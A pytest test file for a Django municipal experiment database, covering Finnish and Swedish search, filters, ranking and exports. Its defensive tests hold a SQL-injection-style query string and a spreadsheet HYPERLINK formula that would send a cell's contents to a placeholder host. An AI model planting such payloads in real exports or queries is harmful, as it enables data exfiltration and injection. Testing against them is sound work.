"""The case bank: search as people type Finnish and Swedish, facets, TOP 10, exports."""

import csv
import io
import json

import pytest

from digikunta.experiments import services
from digikunta.experiments.models import Theme, Visibility
from digikunta.experiments.tests.factories import ExperimentFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def cases(member, organisation):
    def make(title, summary, language="fi", **extra):
        experiment = services.experiment_create(
            by=member,
            owner=organisation,
            title=title,
            summary=summary,
            language=language,
            **{"visibility": Visibility.PUBLIC, **extra},
        )
        return experiment

    booking = make(
        "Tilavarausjärjestelmä kirjastoon",
        "Kokeilimme kulunvalvontaa ja maksamista yhdessä palvelussa kuntalaisille.",
        themes=[Theme.objects.get(slug="facilities")],
    )
    services.experiment_transition(experiment=booking, to="planned", by=member)
    services.experiment_transition(experiment=booking, to="running", by=member)
    services.experiment_transition(
        experiment=booking, to="ended", by=member, results="Käyttö kasvoi.", outcome="succeeded"
    )
    meetings = make("Etäkokoukset", "Lautakunnat kokoontuvat etänä.")
    swedish = make(
        "Digitalt stöd i kommunerna",
        "Kommunerna erbjuder rådgivning för äldre invånare.",
        language="sv",
    )
    hidden = make("Salainen tilavaraus", "Vain jäsenille.", visibility="members")
    return {"booking": booking, "meetings": meetings, "swedish": swedish, "hidden": hidden}


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("tilavarauksen", "booking"),  # inflected
        ("tilavaraus", "booking"),  # compound part of tilavarausjärjestelmä
        ("kulunvalvonnan", "booking"),  # inflected compound
        ("kuntalaisille", "booking"),
        ("kokouksista", "meetings"),
        ("kommunerna", "swedish"),  # Swedish inflection
        ("kommun", "swedish"),
    ],
)
def test_search_understands_inflected_and_compound_words(client, cases, query, expected):
    response = client.get("/fi/casebank/", {"q": query})
    assert response.status_code == 200
    listed = [e.pk for e in response.context["page"].object_list]
    assert cases[expected].pk in listed, (query, listed)


def test_search_highlights_the_matching_words(client, cases):
    html = client.get("/fi/casebank/", {"q": "kulunvalvonta"}).content.decode()
    assert "<mark>kulunvalvontaa</mark>" in html


def test_members_only_experiments_stay_hidden_in_search_and_exports(client, cases):
    listed = [
        e.pk for e in client.get("/fi/casebank/", {"q": "tilavaraus"}).context["page"].object_list
    ]
    assert listed
    assert cases["hidden"].pk not in listed
    exported = json.loads(b"".join(client.get("/fi/casebank/export.json").streaming_content))
    assert cases["hidden"].title not in [row["title"] for row in exported]


def test_members_see_their_own_members_only_experiments(client, cases, member):
    client.force_login(member)
    listed = [
        e.pk for e in client.get("/fi/casebank/", {"q": "salainen"}).context["page"].object_list
    ]
    assert listed == [cases["hidden"].pk]


def test_facets_filter_by_theme_status_and_outcome(client, cases):
    page = client.get("/fi/casebank/", {"theme": "facilities", "outcome": "succeeded"}).context[
        "page"
    ]
    assert [e.pk for e in page.object_list] == [cases["booking"].pk]
    assert client.get("/fi/casebank/", {"status": "ended"}).context["page"].paginator.count == 1


def test_a_bad_filter_is_a_400_naming_the_field(client):
    response = client.get("/en/casebank/", {"status": "party"})
    assert response.status_code == 400
    assert "Stage" in response.content.decode()


def test_hostile_queries_do_not_break_the_search(client, cases):
    for query in ['"', "*", "a OR b", "NEAR(", "'; DROP TABLE", "(((", "ä" * 300]:
        assert client.get("/fi/casebank/", {"q": query[:200]}).status_code == 200


def test_csv_export_has_a_header_and_public_rows(client, cases):
    content = b"".join(client.get("/fi/casebank/export.csv").streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content)))
    assert {row["title"] for row in rows} == {
        cases["booking"].title,
        cases["meetings"].title,
        cases["swedish"].title,
    }
    booking = next(row for row in rows if row["title"] == cases["booking"].title)
    assert booking["themes"] == "facilities" and booking["outcome"] == "succeeded"


def test_top10_ranks_by_the_published_formula(client, member, organisation):
    plain = ExperimentFactory(owner=organisation, status="ended", outcome="partly", results="x")
    documented = ExperimentFactory(
        owner=organisation, status="evaluated", outcome="did_not_succeed", results="x", lessons="y"
    )
    reused = ExperimentFactory(owner=organisation, status="ended", outcome="partly", results="x")
    ExperimentFactory(owner=organisation, reused_from=reused)
    ExperimentFactory(owner=organisation, status="running")  # not ended: not ranked
    response = client.get("/en/casebank/top-10/")
    ranked = [(e.title, e.score) for e in response.context["experiments"]]
    assert ranked == [(reused.title, 5), (documented.title, 4), (plain.title, 2)]
    assert "A failure with good lessons scores as well as a success." in response.content.decode()


def test_a_deleted_experiment_leaves_the_index(client, cases):
    from digikunta.search.models import SearchEntry

    cases["meetings"].delete()
    assert not SearchEntry.objects.filter(object_id=cases["meetings"].pk).exists()
    assert client.get("/fi/casebank/", {"q": "etäkokoukset"}).context["page"].paginator.count == 0


def test_an_export_with_a_bad_filter_is_a_400_not_everything(client, cases):
    response = client.get("/en/casebank/export.csv", {"status": "party"})
    assert response.status_code == 400
    assert "status" in response.content.decode()


def test_csv_export_never_hands_a_spreadsheet_a_formula(client, organisation):
    ExperimentFactory(
        owner=organisation,
        status="running",
        title='=HYPERLINK("https://example.com/?"&A1;"Avaa")',
        summary="+SUM(1;2)",
    )
    content = b"".join(client.get("/fi/casebank/export.csv").streaming_content).decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(content)))
    assert row["title"] == '\'=HYPERLINK("https://example.com/?"&A1;"Avaa")'
    assert row["summary"] == "'+SUM(1;2)"


def test_the_filters_list_every_place_and_keep_the_chosen_one(client):
    page = client.get("/fi/casebank/", {"municipality": "564", "theme": "facilities"})
    html = page.content.decode()
    assert html.count('<option value="') > 308  # every municipality, region, theme…
    assert '<option value="564" selected>' in html
    assert '<option value="facilities" selected>' in html
    assert '<option value="091">' in html


def test_a_renamed_theme_reaches_the_shared_filter_fields(
    client, settings, django_capture_on_commit_callbacks
):
    settings.PAGE_CACHE_SECONDS = 0
    assert client.get("/fi/casebank/", {"theme": "facilities"}).status_code == 200
    theme = Theme.objects.get(slug="facilities")
    with django_capture_on_commit_callbacks(execute=True):  # the reference key moves on
        theme.name_fi, theme.slug = "Tilat ja varaukset", "tilat"
        theme.save()

    html = client.get("/fi/casebank/", {"theme": "tilat"}).content.decode()
    assert '<option value="tilat" selected>Tilat ja varaukset</option>' in html
    assert client.get("/fi/casebank/", {"theme": "facilities"}).status_code == 400
